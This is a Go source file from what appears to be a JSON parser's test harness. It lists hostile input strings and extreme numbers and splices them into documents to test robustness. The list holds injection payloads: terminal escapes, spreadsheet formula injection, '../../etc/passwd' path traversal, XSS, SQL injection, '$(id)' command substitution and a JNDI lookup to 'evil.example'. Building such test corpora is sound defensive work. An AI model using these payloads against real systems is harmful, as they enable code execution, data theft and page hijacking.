package hostile

import (
	"strings"

	"github.com/csirtgauge/csirtgauge/internal/strictjson"
)

// Texts are what people and programs put into names and titles to do harm somewhere else: on a terminal, in a spreadsheet, in a page,
// in a path, in a message that is taken for a format.
var Texts = []string{
	"\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\", "\x1b]0;title\a", "\u009b31m", "\u0085", "\x7f", "\r", "\n", "\t", "\b\b\b", "\x00", "a\x00.json", // terminals
	"\u202egnp.exe", "\u2066\u2069", "\u200b", "\u200f", "\u00ad", "\ufeff", "\u2028", "\U000e0041", "\U000e01ef", "\ufff9", "e\u0301", "\ue000", "\ufdd0", "\U0010ffff", // what is not seen
	`=cmd|' /C calc'!A0`, "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", "＝1+1", // formulas
	"../../etc/passwd", `C:\Windows\System32`, `\\host\share`, "file:///etc/passwd", "javascript:alert(1)", "CON", "~root", "/dev/null", ".", "..", "~", "~1~0", "/", // paths and pointers
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</textarea>", "{{.}}", "]]>", "<!--", "&lt;", // pages
	"%s%n%d%!", "%[1]s", "$(id)", "`id`", "'; DROP TABLE x; --", "${jndi:ldap://evil.example}", "__proto__", // programs
	"", " ", "\u3000", "NaN", "null", strings.Repeat("長", 3000), strings.Repeat("a", 70), strings.Repeat("e\u0301", 500), strings.Repeat("\u202e", 200), // lengths
}

// numbers are none that any document may have in the place of a number.
var numbers = []string{
	"1e1000001", "-1e1000001", "1e-1000001", "-1e99999999", "1e400", "1e99999999999999999999", "-1", "-9223372036854775808", "9223372036854775807", "9223372036854775808", "18446744073709551616",
	strings.Repeat("9", 400), "-" + strings.Repeat("9", 400), "0." + strings.Repeat("0", 400) + "1", "1." + strings.Repeat("0", 400) + "1", "1E+400", "3e0", `"1"`, "null", "true", "[]", "{}", "[1]", `"1e1000001"`,
}

func quote(s string) string { return string(strictjson.AppendString(nil, s)) }

// A kind of place in a document.
type kind uint8

const (
	number kind = iota
	text
	name
)

// A place is where a value or a name stands.
type place struct {
	start, end int
	text       string
}

func (p place) with(document []byte, s string) []byte {
	return []byte(string(document[:p.start]) + s + string(document[p.end:]))
}

// spread returns at most n places of a kind, evenly.
func (p Parser) spread(k kind, n int) []place {
	root, problems := strictjson.Parse(p.Pattern, strictjson.Limits{Bytes: p.Bytes, Values: p.Values})
	if root == nil {
		panic(problems)
	}
	var all []place
	var walk func(v *strictjson.Value)
	walk = func(v *strictjson.Value) {
		if v.KeyOffset > 0 && k == name {
			all = append(all, place{v.KeyOffset, v.KeyOffset + literal(p.Pattern[v.KeyOffset:]), v.Key})
		}
		switch {
		case v.Kind == strictjson.Number && k == number:
			all = append(all, place{v.Offset, v.Offset + len(v.Text), v.Text})
		case v.Kind == strictjson.String && k == text:
			all = append(all, place{v.Offset, v.Offset + literal(p.Pattern[v.Offset:]), v.Text})
		}
		for i := range v.Items {
			walk(&v.Items[i])
		}
	}
	walk(root)
	var some []place
	for i := range min(n, len(all)) {
		some = append(some, all[i*len(all)/min(n, len(all))])
	}
	return some
}

// literal returns the length of the string literal that b begins with.
func literal(b []byte) int {
	for i := 1; ; i++ {
		switch b[i] {
		case '\\':
			i++
		case '"':
			return i + 1
		}
	}
}
